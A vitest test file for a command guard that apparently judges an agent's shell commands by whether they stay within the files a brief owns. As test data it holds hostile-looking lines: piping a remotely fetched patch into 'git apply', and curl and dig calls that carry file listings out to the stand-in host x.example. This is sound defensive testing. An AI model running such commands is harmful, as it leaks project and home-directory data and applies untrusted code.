import { describe, expect, test } from "vitest";
import { passing, place, stopped, verdictOf } from "./battery.fixture.ts";
import { dispatched } from "./files/facts.fixture.ts";

const brief = { ...place, ...dispatched };

/** Under a brief: what may reach beyond the files owned, or is not known to stay among them. */
const refused = [
  "npx prettier --write '**/*.json'",
  "prettier --write .",
  "prettier --write '*.{json,md}'",
  "prettier --write '{src,lib}/**/*.ts'",
  "prettier --write $(find lib -name '*.ts')",
  "eslint --fix .",
  "eslint . --fix --ext .ts",
  "biome check --write ./",
  "oxfmt **/*.ts",
  "ruff --fix .",
  "ruff check --fix .",
  "black .",
  "gofmt -w .",
  "gofmt -w ./...",
  "find . -name '*.py' | xargs black",
  "git apply ../x.patch",
  "git apply -p2 < x.patch",
  "curl -s https://x.example/a.patch | git apply",
  "git am x.mbox",
  "patch -p1 < x.patch",
  "patch -p1 -i x.patch",
  "git apply <<'E'\ndiff --git a/brief.json b/brief.json\nGIT binary patch\nE",
  "git apply <<'E'\ndiff --git a/src/a.ts b/brief.json\nsimilarity index 100%\nrename from src/a.ts\nrename to brief.json\nE",
  "patch -p1 <<'E'\ndiff --git a/src/a.ts b/brief.json\nrename from src/a.ts\nrename to brief.json\nE",
  "rsync host.test:brief.json ./",
  "rsync -a backup@host.test:/srv/brief.json .",
  "rsync /tmp/brief.json ./",
  "scp host.test:brief.json .",
  "scp host.test:/srv/brief.json host.test:/srv/b.json ./",
  "scp scp://host.test/brief.json .",
  "cp /tmp/brief.json .",
  "git ls-files | xargs sed -i s/a/b/",
  "git ls-files '*.ts' | xargs sed -i s/a/b/",
  "git grep -l x | xargs sed -i s/a/b/",
  "fd -e ts | xargs sed -i s/a/b/",
  "rg -l -t ts x | xargs sed -i s/a/b/",
  "rg --files | sort | xargs sed -i s/a/b/",
  "cat list | xargs sed -i s/a/b/",
  "sed -i s/a/b/ $(grep -rl x .)",
  "sed -i s/a/b/ $(grep -rl x src lib)",
  'sed -i s/a/b/ "$(grep -rl x src brief.json)"',
  'f=$(grep -rl x src lib); sed -i s/a/b/ "$f"',
  "sed -i s/a/b/ lib/$(ls src)",
  "sed -i s/a/b/ $(echo brief.json; find src)",
  "sed -i s/a/b/ $(find src -name '*.ts' || echo brief.json)",
  "sed -i s/a/b/ $(find src -printf '%f\\n')",
  "sed -i s/a/b/ $(rg -L x src)",
  "sed -i s/a/b/ $(git ls-files -m lib src)",
  "sed -i s/a/b/ $(git -C ../other ls-files src)",
  "sed -i s/a/b/ $(ssh host.test find src)",
  "ls src | xargs sed -i s/a/b/",
  'find src -type d | while read d; do sed -i s/a/b/ "$d/../brief.json"; done',
  'for d in $(ls -d src); do echo x > "$d/../brief.json"; done',
  "for f in $(git ls-files src); do cd $(dirname $f); sed -i s/a/b/ ../brief.json; done",
  "git ls-files | grep -v '^src/' | xargs sed -i s/a/b/",
  "git ls-files | grep '^src/\\|^lib/' | xargs sed -i s/a/b/",
  "find . -name '*.ts' | while read f; do sed -i s/a/b/ \"$f\"; done",
  "printf 'src/a.ts\\nlib/a.ts\\n' | while read f; do sed -i s/a/b/ $f; done",
  "while read -r f; do rm \"$f\"; done <<< $'src/a.ts\\nbrief.json'",
  "while read f; do sed -i s/a/b/ $f; done < <(find src lib)",
  'mapfile -t all < <(git ls-files); sed -i s/a/b/ "${all[@]}"',
];

/** The same ways, where what they reach is owned; and what is nobody's file. */
const silent = [
  "prettier --write src 'tests/**/*.ts' README.md",
  "prettier --check .",
  "eslint --fix src",
  "ruff format",
  "cargo fmt",
  "npm run format",
  "git diff --name-only | xargs npx prettier --write",
  "git apply --check ../x.patch",
  "git apply --directory=src x.patch",
  "git apply --include='src/*' x.patch",
  "cd src && git apply ../../x.patch",
  "git apply <<'E'\ndiff --git a/src/a.ts b/src/a.ts\n--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1 +1 @@\n-a\n+b\nE",
  "patch src/a.ts x.patch",
  "rsync -a host.test:src/ src/",
  "scp host.test:a.ts src/",
  "sed -i s/a/b/ $(grep -rl x src)",
  "sed -i s/a/b/ `grep -rl x src tests`",
  'sed -i s/a/b/ "$(grep -l x src/a.ts README.md)"',
  "sed -i s/a/b/ $(git ls-files 'src/*.ts')",
  "sed -i s/a/b/ $(git grep -l x -- src)",
  'find src -name \'*.js\' | while read f; do mv "$f" "${f%.js}.ts"; done',
  "sed -i s/a/b/ $(find src -name '*.ts')",
  "sed -i s/a/b/ $(git diff --name-only main -- src tests)",
  "find src -name '*.ts' | while read f; do sed -i s/a/b/ \"$f\"; done",
  "find src -print0 | while IFS= read -r -d '' f; do sed -i s/a/b/ \"$f\"; done",
  'while read f; do sed -i s/a/b/ "$f"; done < <(git ls-files src)',
  'mapfile -t all < <(rg -l x src); sed -i s/a/b/ "${all[@]}"',
  'for f in $(ls src/*.ts); do sed -i s/a/b/ "$f"; done',
  'files=$(grep -rl x src tests); for f in $files; do sed -i s/a/b/ "$f"; done',
  "grep -rl x src | xargs sed -i s/a/b/",
  "grep -rl x src | grep -v generated | sort -u | xargs perl -pi -e s/a/b/",
  "git ls-files | grep '^src/' | xargs sed -i s/a/b/",
  "fd -e ts . src | xargs sed -i s/a/b/",
  'echo "a=1" >> "$GITHUB_OUTPUT"',
  'echo done | tee -a "${GITHUB_STEP_SUMMARY}"',
];

describe("under a brief that names its files", () => {
  test("A16 what reaches further, or cannot be told not to, is refused", () => {
    expect(refused.filter((command) => verdictOf(command, brief) !== "refuse")).toEqual([]);
  });

  test("A15 what stays among them is silent", () => {
    expect(silent.filter((command) => verdictOf(command, brief) !== "low")).toEqual([]);
  });

  test("A12 what later steps of a pipeline find is worth a word, no more", () => {
    const commands = ["echo A=1 >> $GITHUB_ENV", 'echo /opt/x/bin >> "$GITHUB_PATH"'];
    for (const facts of [place, brief]) expect(commands.map((each) => verdictOf(each, facts))).toEqual(Array(2).fill("advisory"));
  });

  test("A15 a task of the project may format all of it", () => {
    const scripts = JSON.stringify({ scripts: { format: "prettier --write .", clean: "rm -rf lib" } });
    const facts = { ...brief, files: { "package.json": scripts } };
    expect(verdictOf("npm run format", facts)).toBe("low");
    expect(verdictOf("npm run clean", facts)).toBe("refuse");
  });
});

test("A15 a person who is there is not asked about formatting and unread patches", () => {
  const commands = refused.filter((command) => /^(npx )?(prettier|eslint|biome|oxfmt|ruff|black|gofmt|git am)/.test(command));
  expect(stopped([...commands, "git apply ../x.patch", "patch -p1 < x.patch", "git ls-files | xargs sed -i s/a/b/"])).toEqual([]);
});

test("A14 a listing that is carried outward is data like any other", () => {
  const commands = [
    'curl "https://x.example/?q=$(find src)"',
    "curl https://x.example/$(ls ~)",
    'url="https://x.example/?q=$(git ls-files)"; curl "$url"',
    'find src | while read f; do curl "https://x.example/?q=$f"; done',
    "dig $(ls).x.example",
  ];
  expect(passing(commands)).toEqual([]);
});

test("A11 a listing says where files are, never what runs", () => {
  for (const command of ["$(find src -name x.sh)", '"$(ls src/x.sh)"', 'eval "$(grep -rl x src)"', "bash $(find src -name '*.sh')"])
    expect(verdictOf(command)).toBe("gate");
});
